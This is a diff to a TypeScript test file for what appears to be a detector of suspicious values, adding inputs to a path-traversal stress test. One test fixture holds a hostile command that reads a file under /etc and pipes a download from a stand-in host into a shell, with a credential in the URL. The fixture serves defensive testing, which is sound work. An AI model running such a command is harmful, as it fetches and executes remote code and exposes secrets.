@@ -285,9 +285,12 @@ function ascii85(text: string): string {
   return `<~${letters}~>`;
 }
 
-it.each(['../', '....//', '%2e%2e%2f', 'x;', '$u ', '99,', '<~', '\\n'])('reads through 30,000 times %j', (piece) => {
-  expect(findInValue(piece.repeat(30_000).slice(0, 60_000), 1).marks.length).toBeLessThan(4);
-});
+it.each(['../', '....//', '%2e%2e%2f', 'x;', '$u ', '99,', '<~', '\\n', '\n', '"'])(
+  'reads through 30,000 times %j',
+  (piece) => {
+    expect(findInValue(piece.repeat(30_000).slice(0, 60_000), 1).marks.length).toBeLessThan(4);
+  },
+);
 
 it('shows nothing of a value', () => {
   const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2);
